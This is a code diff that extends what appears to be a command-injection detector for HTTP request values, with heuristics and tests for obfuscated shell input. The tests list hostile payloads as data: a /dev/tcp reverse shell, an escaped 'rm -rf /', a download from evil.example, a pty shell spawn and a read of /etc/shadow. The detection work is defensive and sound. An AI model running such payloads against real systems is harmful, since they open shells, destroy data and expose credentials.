+        && matches!(word.trim_start_matches('.').trim_matches(['"', '\'']), "shell" | "system" | "sh")
+        && command_at(s, end).is_some_and(|c| c.strength != Strength::Weak || c.args_shellish);
+    let strength = if sqlite_escape {
+        Strength::Strong
+    } else if (word.contains('?') || word.contains('*')) && word.starts_with('/') && glob_path(&word) {
         Strength::Glob
     } else if is_strong(name) || versioned || (word.contains('/') && is_weak(name) && word.starts_with('/')) {
         Strength::Strong
@@ -620,7 +987,7 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
             let (arg, arg_end) = read_word(s, j);
             let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
             let rest_blank = s.get(arg_end..).is_none_or(|r| r.iter().all(|c| c.is_ascii_whitespace()));
-            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg, rest_blank)
+            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg, rest_blank) || SENSITIVE_ARGS.contains(&arg.as_str())
         }
         None => false,
     } && end > i;
@@ -632,6 +999,7 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
         let after_arg = s.get(arg_end..).unwrap_or_default();
         let only_number = !a.is_empty() && a.iter().all(|c| c.is_ascii_digit()) && after_arg.iter().all(|c| c.is_ascii_whitespace());
         drive
+            || SENSITIVE_ARGS.iter().any(|f| arg == *f || arg.ends_with(&format!("/{f}")))
             || subcommand(name, &arg, after_arg.iter().all(|c| c.is_ascii_whitespace())) && !(name == "net" && matches!(arg.as_str(), "use" | "start" | "stop" | "group" | "config"))
             || name == "sleep" && only_number
     };
@@ -641,7 +1009,12 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     if glued || followed_by_eq {
         return None;
     }
-    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, args_strong, end })
+    // `ansible all -m ping`: an option among the next few words.
+    let args_shellish = args_shellish || end > i && option_among_next_words(s, j) || sqlite_escape;
+    let obfuscated = obfuscated_word(s.get(i..end).unwrap_or_default());
+    // (Its arguments after a blank, and not English: `whoami is a command` is prose.)
+    let distinct = strength == Strength::Strong && is_distinct(name) && j > end && !english_words_next(s, j);
+    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, args_strong, obfuscated, distinct, end })
 }
 
 /// A `FOR ... %v IN (...) DO` loop or an `IF` statement in cmd.exe syntax. Returns the
@@ -682,7 +1055,10 @@ fn batch_statement(t: &str) -> Option<(u32, usize)> {
         }
         let ws = words(at + 3);
         // Skip switches and the options string to the loop variable.
-        let var = ws.iter().position(|(_, w)| w.starts_with('%') && w.len() <= 20 && w.len() >= 2 && !w.ends_with('%'));
+        // (`%%` alone, its letter lost, still names the loop variable before `IN`.)
+        let var = ws.iter().enumerate().position(|(k, (_, w))| {
+            w.starts_with('%') && w.len() <= 20 && w.len() >= 2 && (!w.ends_with('%') || *w == "%%" && ws.get(k + 1).is_some_and(|(_, n)| *n == "in"))
+        });
         if let Some(vi) = var {
             let rest: Vec<&str> = ws.iter().skip(vi + 1).map(|(_, w)| *w).collect();
             let has_in = rest.first().is_some_and(|w| *w == "in" || w.starts_with("in("));
@@ -744,6 +1120,36 @@ pub(crate) fn is_command_name(word: &str) -> bool {
 fn is_strong(name: &str) -> bool {
     static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
     SET.get_or_init(|| STRONG.iter().copied().collect()).contains(name)
+}
+
+/// A strong name no prose uses: hyphenated or numbered tool names, or listed.
+fn is_distinct(name: &str) -> bool {
+    name.len() >= 3 && name.bytes().any(|c| c == b'-' || c == b'_' || c.is_ascii_digit()) && name.bytes().next().is_some_and(|c| c.is_ascii_alphabetic()) || DISTINCT.contains(&name)
+}
+
+/// Words of English sentences that no command line has among its first arguments.
+const FUNCTION_WORDS: &[&str] = &[
+    "is", "are", "was", "were", "be", "a", "an", "the", "of", "in", "on", "for", "to", "and", "or", "not", "does", "do",
+    "will", "can", "command", "tool", "shows", "prints", "returns", "lists", "means", "with", "how", "what", "why",
+];
+
+/// One of the next four words from `j` (before any separator) is an English function word.
+fn english_words_next(s: &[u8], j: usize) -> bool {
+    let rest = s.get(j..).unwrap_or_default();
+    let rest = rest.get(..rest.len().min(96)).unwrap_or_default();
+    let line = rest.iter().position(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')')).and_then(|e| rest.get(..e)).unwrap_or(rest);
+    line.split(|c| c.is_ascii_whitespace() || *c == b'+').filter(|w| !w.is_empty()).take(4).any(|w| FUNCTION_WORDS.iter().any(|f| f.as_bytes().eq_ignore_ascii_case(w)))
+}
+
+/// An option (`-m`, `--version`) among the next four words from `j`, before any separator.
+fn option_among_next_words(s: &[u8], j: usize) -> bool {
+    let rest = s.get(j..).unwrap_or_default();
+    let rest = rest.get(..rest.len().min(96)).unwrap_or_default();
+    let line = rest.iter().position(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')')).and_then(|e| rest.get(..e)).unwrap_or(rest);
+    line.split(|c| c.is_ascii_whitespace() || *c == b'+').filter(|w| !w.is_empty()).take(4).any(|w| match w {
+        [b'-', b'-', c, ..] | [b'-', c, ..] => c.is_ascii_alphabetic(),
+        _ => false,
+    })
 }
 
 fn is_weak(name: &str) -> bool {
@@ -989,6 +1395,99 @@ mod tests {
             "q=1 /???/?at /e??/h?st?",
         ] {
             assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+    }
+
+    #[test]
+    fn obfuscated_globs_tools_and_apis() {
+        for a in [
+            // Bracket globs resolving to system paths and commands.
+            "cat /usr/sh[a]re/../e[t]c/group",
+            "/s[b]in/ifconfig",
+            "x; /u[s]r/bin/id",
+            // Expansions building strings (`${VAR:0:1}` is a `/`), arithmetic, sockets.
+            "cd ${HOME:0:1}tmp",
+            "${SHELL%%sh}sh",
+            "echo $[3*7]",
+            "n=$((0x10+1))",
+            "0<&196;exec 196<>$D/tcp/192.0.2.7/9001",
+            "!-3",
+            "ls ~-/secrets",
+            // A command word spelt for a shell, a tool no prose names, an option later on.
+            "x|$v whoami",
+            "q;w''get evil.example",
+            "a;\\r\\m -rf /",
+            "p;cpan -i Foo::Bar",
+            "k; sshpass -p secret ssh root@host",
+            "z; terraform apply; knife ssh 'name:*' uptime",
+            "m;msfconsole -q",
+            "v=1&ipconfig/all",
+            // Argv spelt with commas, process APIs, cmd.exe loops with `%%`, alias builtins.
+            "gcc -wrapper bash,-c,whoami .",
+            "Kernel.system(\"uname\")",
+            "subprocess.getoutput('id')",
+            "__import__(\"pty\").spawn(\"sh\")",
+            "FOR %% IN (a b) DO ECHO %%",
+            "alias -g x=y",
+            ";alias ll=ls",
+            "console.error(process.version)",
+            "console['log'](1)",
+            "x=require[\"child_process\"]",
+            "new Function (\"return this\")()",
+            // Empty substitutions inside a word, the value's own variables, SQLite escapes.
+            "who``ami",
+            "x;una$()me -a",
+            "p=/etc/shadow;q=tail;$q -n 1 $p",
+            "x=ca;y=t;${x}$y /etc/hosts",
+            "1;\n.system id",
+        ] {
+            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+        for b in [
+            // Brackets, dollars and tildes in ordinary text.
+            "see [a] and [b]",
+            "/api/users[1]/name",
+            "costs $[0] today",
+            "template ${first_name}",
+            "${server.port}",
+            "approx ~-5 degrees",
+            "great!-) thanks",
+            // Contractions, a tool named in prose, English words after a separator.
+            "I'd like it; you'd too",
+            "whoami is a command",
+            "kubectl is the tool we use",
+            "notes; python tutorial",
+            "a;base64,AAAA",
+            // Methods of ordinary objects, console as a word, aliases in prose.
+            "my.process.run(1)",
+            "the game console (new)",
+            "known by the alias x=1 online",
+            "os.name",
+            "price=5;total=$price",
+            "a=b&c=$d",
+            "notes;.sh files are scripts",
+            "q=``quoted``",
+        ] {
+            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
+        }
+        // A header value opening with a separator runs a command.
+        let mut out = Vec::new();
+        scan(&Value { part: Part::Header, name: "referer", text: ";env" }, &mut out);
+        assert!(out.iter().any(|h| h.rule == "rce.command-chain"), "{out:?}");
+        let mut out = Vec::new();
+        scan(&Value { part: Part::Header, name: "user-agent", text: "Mozilla/5.0 (X11; Linux x86_64; env)" }, &mut out);
+        assert!(out.is_empty(), "{out:?}");
+    }
+
+    /// The gate's command-start condition holds wherever the separator and leading-command
+    /// rules find a command (they share the reader), and not on plain text.
+    #[test]
+    fn command_start_gate() {
+        for a in ["x;id", "a && whoami", "ls -la", "' whoami", "x\nwget http://e/x", "y|  nc -l 4444", "q;python3.11 -c 1"] {
+            assert!(command_start(a), "{a}");
+        }
+        for b in ["hello world", "Tom; Jerry", "a=1&b=2", "Mozilla/5.0 (X11; Linux x86_64)", "text/html;q=0.9"] {
+            assert!(!command_start(b), "{b}");
         }
     }
 
